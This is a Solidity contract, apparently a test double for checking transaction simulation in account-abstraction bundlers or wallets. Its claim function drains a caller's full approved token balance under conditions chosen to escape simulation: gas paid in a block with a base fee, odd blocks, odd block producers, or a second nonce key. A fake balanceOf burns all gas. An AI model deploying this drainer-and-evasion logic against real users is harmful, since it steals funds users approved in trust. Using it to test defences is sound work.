// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface INonces {
    function getNonce(address sender, uint192 key) external view returns (uint256);
}

/// @notice A contract that behaves well until it takes assets that its callers once approved.
contract Turncoat {
    /// The moment at which it takes everything.
    enum Mode {
        /// Never.
        Honest,
        /// Always.
        Thief,
        /// Only if a bundler pays for gas in a block with a base fee: not in a bare `eth_call`.
        PaidFor,
        /// In every second block.
        SecondBlock,
        /// Only if the block's producer has no code and an odd address.
        OddProducer,
        /// Once the caller used its second nonce key.
        SecondKey
    }

    INonces private constant ENTRY_POINT = INonces(0x4337084D9E255Ff0702461CF8895CE9E3b5Ff108);

    Mode public mode;

    receive() external payable {}

    function turn(Mode next) external {
        mode = next;
    }

    /// @notice Takes `price`, and gives `reward` of another token.
    function claim(IToken token, uint256 price, IToken other, uint256 reward) external payable {
        uint256 amount = _takesAll() ? token.balanceOf(msg.sender) : price;
        if (amount != 0) token.transferFrom(msg.sender, address(this), amount);
        if (reward != 0) other.transfer(msg.sender, reward);
    }

    /// @notice Passes the question whether it is a token by burning all gas.
    function balanceOf(address) external pure returns (uint256) {
        assembly {
            invalid()
        }
    }

    function _takesAll() private view returns (bool) {
        if (mode == Mode.PaidFor) {
            return tx.gasprice != 0 && block.basefee != 0 && tx.origin.balance != 0
                && tx.origin.code.length == 0;
        }
        if (mode == Mode.SecondBlock) return block.number % 2 == 1;
        if (mode == Mode.OddProducer) return uint160(address(block.coinbase)) % 2 == 1;
        if (mode == Mode.SecondKey) return uint64(ENTRY_POINT.getNonce(msg.sender, 1)) != 0;
        return mode == Mode.Thief;
    }
}
